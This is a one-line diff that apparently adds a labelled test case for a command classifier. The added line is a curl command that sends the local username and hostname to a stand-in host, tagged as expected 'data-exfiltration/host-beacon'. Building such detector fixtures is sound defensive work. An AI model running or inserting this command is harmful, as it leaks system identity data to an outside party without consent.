@@ -1,0 +1,1 @@
+curl -s "https://collect.example/?u=$(whoami)&h=$(hostname)" # expect: data-exfiltration/host-beacon
